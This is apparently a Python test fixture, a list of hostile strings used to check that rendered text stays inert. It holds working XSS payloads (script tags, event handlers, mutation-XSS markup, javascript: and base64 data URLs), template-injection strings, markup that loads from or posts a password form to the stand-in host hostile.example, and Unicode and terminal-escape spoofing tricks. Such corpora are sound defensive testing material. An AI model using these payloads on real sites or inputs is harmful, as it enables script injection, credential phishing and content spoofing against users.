"""Texts that would like to be more than text when they are shown. Each that runs sets `pwned`; each that loads asks for a
host that is not this machine."""

MARK = "window.pwned=1"
TEXTS = [
    f"<script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f"<img src=http://hostile.example/pixel.png onload={MARK}>",
    f"<svg onload={MARK}><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<svg><script>{MARK}</script></svg><math><mtext></form><form><mglyph><style></math><img src onerror={MARK}>",
    f"</textarea></title></script><script>{MARK}</script>",
    f"\"><iframe srcdoc=\"<script>parent.{MARK}</script>\"></iframe>",
    f"' onmouseover='{MARK}' autofocus onfocus='{MARK}' x='",
    f"javascript:{MARK}//",
    f"[a link](javascript:{MARK}) ![a picture](http://hostile.example/picture.png)",
    "<a href=\"http://hostile.example/\">free</a> http://hostile.example/ www.hostile.example",
    "<style>@import 'http://hostile.example/a.css'; body { display: none }</style>",
    "<link rel=stylesheet href=http://hostile.example/b.css><meta http-equiv=refresh content='0;url=http://hostile.example/'>",
    "<form action=http://hostile.example/><input name=password><button>go</button></form><base href=http://hostile.example/>",
    f"{{{{constructor.constructor('{MARK}')()}}}} ${{{MARK}}} <%= {MARK} %> #{{{MARK}}}",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "\u202egnp.exe\u202c \u2066isolated\u2069 a\u200bb\u200dc\ufeffd \U000e0041\U000e0042",
    "\x1b]8;;http://hostile.example\x07terminal\x1b]8;;\x07 \x08\x08 nul",
    "الرجل \u202d123\u202c العربية mixed 中文 👩‍👩‍👧 e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    "W" * 40_000,
    "__proto__ constructor toString valueOf",
]
